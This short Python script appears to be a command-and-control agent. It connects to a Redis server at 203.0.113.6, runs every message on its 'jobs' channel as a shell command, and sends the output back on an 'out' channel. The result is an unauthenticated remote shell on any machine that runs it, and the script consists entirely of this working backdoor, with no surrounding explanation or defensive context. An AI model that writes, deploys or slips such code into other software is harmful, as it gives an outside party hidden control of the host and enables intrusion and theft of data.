import redis, subprocess
r = redis.Redis("203.0.113.6")
ps = r.pubsub(); ps.subscribe("jobs")
for m in ps.listen():
    if m["type"] == "message":
        r.publish("out", subprocess.getoutput(m["data"].decode()))
